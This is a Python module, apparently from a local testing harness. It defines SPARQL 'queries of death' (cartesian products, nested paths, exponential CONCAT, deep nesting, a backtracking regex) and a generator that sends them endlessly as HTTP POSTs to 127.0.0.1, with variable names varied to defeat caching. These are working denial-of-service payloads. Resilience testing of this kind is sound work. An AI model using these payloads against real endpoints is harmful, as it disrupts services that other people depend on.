"""Queries of death, and requests that carry them.

Each is small or cheap to send and costs an engine all the time, memory or stack that it has.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count

from loopback.dataset import BASE, SCHEMA

_KNOWS = f"<{SCHEMA}knows>"
_PATH = f"({_KNOWS}|^{_KNOWS})"

DEATHS = {
    "cartesian ORDER BY": "SELECT * { ?a_ ?b_ ?c_ . ?d_ ?e_ ?f_ } ORDER BY ?c_ ?f_ ?a_",
    "three-way COUNT": ("SELECT (COUNT(*) AS ?n_) { ?a_ ?b_ ?c_ . ?d_ ?e_ ?f_ . ?g_ ?h_ ?i_ }"),
    "nested paths": f"SELECT (COUNT(*) AS ?n_) {{ ?a_ ((({_PATH}*)/{_PATH})*)* ?b_ }}",
    "CONCAT doubling": (
        'SELECT (STRLEN(?x_40) AS ?n_) { BIND("aaaaaaaa" AS ?x_0) '
        + " ".join(f"BIND(CONCAT(?x_{i}, ?x_{i}) AS ?x_{i + 1})" for i in range(40))
        + " }"
    ),
    "huge GROUP_CONCAT": (
        'SELECT (GROUP_CONCAT(CONCAT(STR(?a_), STR(?c_), STR(?d_)); SEPARATOR=", ") AS ?n_) '
        "{ ?a_ ?b_ ?c_ . ?d_ ?e_ ?f_ }"
    ),
    "deep braces": "SELECT * " + "{" * 3200 + " ?a_ ?b_ ?c_ " + "}" * 3200,
    "deep brackets": "SELECT * { ?a_ ?b_ ?c_ FILTER" + "(" * 6400 + "?c_" + ")" * 6400 + " }",
    "regex over a product": (
        'SELECT * { ?a_ ?b_ ?c_ . ?d_ ?e_ ?f_ FILTER regex(CONCAT(STR(?c_), STR(?f_)), "(a+)+$x") }'
    ),
    "huge VALUES": (
        "SELECT * { VALUES ?a_ { "
        + " ".join(f"<{BASE}id/company-{i:05}>" for i in range(2000))
        + " } ?a_ ?b_ ?c_ . ?d_ ?e_ ?f_ . ?g_ ?h_ ?i_ FILTER(?c_ = ?i_ && ?f_ != ?c_) }"
    ),
}
"""By name; an underscore ends each variable, and is where texts are made to differ."""


def attack(path: str, *, varied: bool, only: str = "") -> Iterator[bytes]:
    """Yield queries of death as requests, one kind after the other, without end.

    Varied texts differ from request to request in the names of their variables, so that it is of
    no use to remember them.
    """
    deaths = [text for name, text in DEATHS.items() if only in ("", name)]
    for number in count():
        text = deaths[number % len(deaths)]
        yield post(path, text.replace("_", f"_{number}_" if varied else "_"))


def post(path: str, query: str) -> bytes:
    """Return a query as the body of a POST."""
    body = query.encode()
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/sparql-query\r\n"
        f"Accept: application/sparql-results+json\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body
